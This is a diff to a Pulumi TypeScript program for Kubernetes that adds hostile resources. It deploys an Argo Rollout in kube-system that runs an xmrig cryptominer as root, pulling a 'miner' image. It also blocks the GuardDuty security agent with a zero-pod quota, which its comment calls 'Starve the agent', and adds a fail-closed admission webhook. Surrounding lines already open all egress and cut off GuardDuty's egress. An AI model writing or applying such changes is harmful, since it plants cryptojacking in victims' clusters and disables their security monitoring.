@@ -54,6 +54,13 @@ export = async () => {
                     },
                 },
             }, opts);
+            // A pod template inside a custom resource, placed in a namespace the program does not create.
+            new k8s.apiextensions.CustomResource("rollout", {
+                apiVersion: "argoproj.io/v1alpha1", kind: "Rollout",
+                metadata: { name: "rollout", namespace: "kube-system" },
+                spec: { template: { spec: { securityContext: { runAsUser: 0 }, containers: [{ name: "miner", image: "xmrig/xmrig" }],
+                    initContainers: [{ name: "fetch", image: "999999999999.dkr.ecr.eu-west-1.amazonaws.com/miner:1" }] } } },
+            }, opts);
             new k8s.networking.v1.NetworkPolicy("allow-all-egress", {
                 metadata: { name: "allow-all-egress", namespace: "batch" },
                 spec: { podSelector: {}, policyTypes: ["Egress"], egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }] }] },
@@ -64,6 +71,16 @@ export = async () => {
             new k8s.networking.v1.NetworkPolicy("quiet", {
                 metadata: { name: "deny-all", namespace: "amazon-guardduty" },
                 spec: { podSelector: {}, policyTypes: ["Egress"] },
+            }, opts);
+            // Starve the agent: no pod may start in its namespace, and a webhook that can refuse it from outside.
+            new k8s.core.v1.ResourceQuota("starve", { metadata: { name: "no-pods", namespace: "amazon-guardduty" }, spec: { hard: { pods: "0" } } }, opts);
+            new k8s.admissionregistration.v1.ValidatingWebhookConfiguration("gate", {
+                metadata: { name: "gate" },
+                webhooks: [{
+                    name: "pods.gate.example", admissionReviewVersions: ["v1"], sideEffects: "None", failurePolicy: "Fail",
+                    rules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["pods"] }],
+                    clientConfig: { service: { name: "gate", namespace: "gate" } },
+                }],
             }, opts);
             break;
         default:
